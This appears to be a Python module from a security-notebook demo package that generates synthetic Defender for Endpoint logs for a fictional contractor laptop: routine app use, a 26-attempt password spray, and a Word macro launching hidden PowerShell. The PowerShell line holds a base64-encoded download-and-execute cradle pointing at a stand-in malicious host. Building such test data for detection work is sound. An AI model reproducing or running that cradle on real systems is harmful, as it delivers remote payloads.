"""A laptop that only Microsoft Defender for Endpoint sees, and what happened on it.

LT-MDE07 (``lt-mde07.contoso.com``) is a contractor laptop onboarded to Defender but
not to Log Analytics: it has DeviceProcessEvents and DeviceLogonEvents rows and
nothing in Heartbeat, SecurityEvent or Syslog. Over the week, heidi unlocks and
uses it (Office, Teams, Edge). Then 26 failed network logons from 203.0.113.77
try three accounts (a brute force), and a Word document starts PowerShell with an encoded
command that downloads the same payload as WKSTN-042
(http://malicious.example/payload.ps1). host_summary and host_logons_summary on
LT-MDE07 find it all through the Defender tables. The rows depend only on the
generation time.

Example:
    >>> import pandas as pd
    >>> t = mde_incident(pd.Timestamp("2026-01-10T12:00:00Z"))
    >>> sorted(t), int((t["DeviceLogonEvents"]["ActionType"] == "LogonFailed").sum())
    (['DeviceLogonEvents', 'DeviceProcessEvents'], 26)
"""

from __future__ import annotations

import base64

import numpy as np
import pandas as pd

from nbcatalog.data.demo.estate import ATTACKER_RDP_IP, MALICIOUS_URL, TENANT_ID

HOST = "LT-MDE07"
DEVICE_NAME = "lt-mde07.contoso.com"
DEVICE_ID = "c3d9e1f7a5b3c1d9e7f5a3b1c9d7e5f3a1b9c7d5"
USER, DOMAIN, SID = "heidi", "contoso", "S-1-5-21-3623811015-3361044348-30300820-1107"
EXPLORER_PID = 4444
HOURS_AGO = 12  # the encoded PowerShell, before the generation time
SPRAY_ACCOUNTS = ("administrator", "heidi", "svc_backup")
SPRAY_FAILURES = 26
# What the Word macro ran, as PowerShell's -EncodedCommand takes it (UTF-16LE, base64).
PAYLOAD_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{MALICIOUS_URL}')"
ENCODED = base64.b64encode(PAYLOAD_SCRIPT.encode("utf-16-le")).decode("ascii")

_WINDOWS = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"
_EVERYDAY = (  # (file name, folder path, command line)
    ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     '"OUTLOOK.EXE" /recycle'),
    ("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams\\ms-teams.exe",
     '"ms-teams.exe" --system-initiated'),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     '"msedge.exe" --single-argument https://contoso.sharepoint.com/'),
    ("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     '"WINWORD.EXE" /n "C:\\Users\\heidi\\Documents\\Q4 plan.docx"'),
)  # fmt: skip


def _common(times: pd.DatetimeIndex, table: str, report: int) -> dict:
    return {
        "TenantId": TENANT_ID,
        "TimeGenerated": times + pd.Timedelta(seconds=50),
        "Timestamp": times,
        "DeviceId": DEVICE_ID,
        "DeviceName": DEVICE_NAME,
        "ReportId": np.arange(len(times), dtype="int64") + report,
        "SourceSystem": "",
        "Type": table,
    }


def _processes(end: pd.Timestamp) -> pd.DataFrame:
    days = pd.date_range(end - pd.Timedelta(days=6), periods=6, freq="D").floor("D")
    rows = []
    for day in days:  # each working morning: the same four programs from explorer.exe
        for minute, (name, path, command) in enumerate(_EVERYDAY):
            when = day + pd.Timedelta(hours=8, minutes=5 + minute)
            rows.append((when, name, path, command, "explorer.exe", EXPLORER))
    fired = (end - pd.Timedelta(hours=HOURS_AGO)).floor("min")
    word = _EVERYDAY[3]
    rows.append((fired - pd.Timedelta(minutes=2), *word, "explorer.exe", EXPLORER))
    rows.append((fired, "powershell.exe",
                 _WINDOWS + "WindowsPowerShell\\v1.0\\powershell.exe",
                 f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED}",
                 word[0], word[1]))  # fmt: skip
    times = pd.DatetimeIndex([r[0] for r in rows])
    frame = pd.DataFrame(
        {
            **_common(times, "DeviceProcessEvents", 7000),
            "ActionType": "ProcessCreated",
            "FileName": [r[1] for r in rows],
            "FolderPath": [r[2] for r in rows],
            "ProcessCommandLine": [r[3] for r in rows],
            "ProcessId": np.arange(len(rows), dtype="int64") * 4 + 6120,
            "ProcessCreationTime": times,
            "ProcessIntegrityLevel": "Medium",
            "AccountDomain": DOMAIN,
            "AccountName": USER,
            "AccountSid": SID,
            "LogonId": 0x5A3F1,
            "InitiatingProcessFileName": [r[4] for r in rows],
            "InitiatingProcessFolderPath": [r[5] for r in rows],
            "InitiatingProcessAccountDomain": DOMAIN,
            "InitiatingProcessAccountName": USER,
            "InitiatingProcessLogonId": 0x5A3F1,
            "InitiatingProcessId": EXPLORER_PID,
        }
    )
    # Word (the row before PowerShell) is PowerShell's parent: the tree links them.
    frame.loc[frame.index[-1], "InitiatingProcessId"] = frame["ProcessId"].iloc[-2]
    return frame


def _logons(end: pd.Timestamp) -> pd.DataFrame:
    days = pd.date_range(end - pd.Timedelta(days=6), periods=6, freq="D").floor("D")
    mornings = [d + pd.Timedelta(hours=8) for d in days]
    unlocks = [d + pd.Timedelta(hours=13, minutes=2) for d in days]
    spray_start = (end - pd.Timedelta(hours=HOURS_AGO + 1)).floor("min")
    spray = [spray_start + pd.Timedelta(seconds=23 * i) for i in range(SPRAY_FAILURES)]
    times = pd.DatetimeIndex([*mornings, *unlocks, *spray])
    everyday = len(mornings) + len(unlocks)
    accounts = [USER] * everyday + [SPRAY_ACCOUNTS[i % 3] for i in range(SPRAY_FAILURES)]
    return pd.DataFrame(
        {
            **_common(times, "DeviceLogonEvents", 8000),
            "ActionType": ["LogonSuccess"] * everyday + ["LogonFailed"] * SPRAY_FAILURES,
            "LogonType": ["Interactive"] * len(mornings)
            + ["Unlock"] * len(unlocks)
            + ["Network"] * SPRAY_FAILURES,
            "AccountDomain": [DOMAIN] * everyday + [HOST.lower()] * SPRAY_FAILURES,
            "AccountName": accounts,
            "Protocol": ["Negotiate"] * everyday + ["NTLM"] * SPRAY_FAILURES,
            "FailureReason": [None] * everyday + ["InvalidUserNameOrPassword"] * SPRAY_FAILURES,
            "RemoteIP": [None] * everyday + [ATTACKER_RDP_IP] * SPRAY_FAILURES,
            "RemoteIPType": [None] * everyday + ["Public"] * SPRAY_FAILURES,
            "RemotePort": pd.array(
                [None] * everyday + [51000 + i for i in range(SPRAY_FAILURES)], dtype="Int64"
            ),
            "LogonId": pd.array(
                [0x5A3F1 + i for i in range(everyday)] + [None] * SPRAY_FAILURES, dtype="Int64"
            ),
            "InitiatingProcessFileName": "lsass.exe",
            "InitiatingProcessFolderPath": _WINDOWS + "lsass.exe",
        }
    )


def mde_incident(end: pd.Timestamp) -> dict[str, pd.DataFrame]:
    """DeviceProcessEvents and DeviceLogonEvents rows of LT-MDE07 (see the module)."""
    return {"DeviceProcessEvents": _processes(end), "DeviceLogonEvents": _logons(end)}
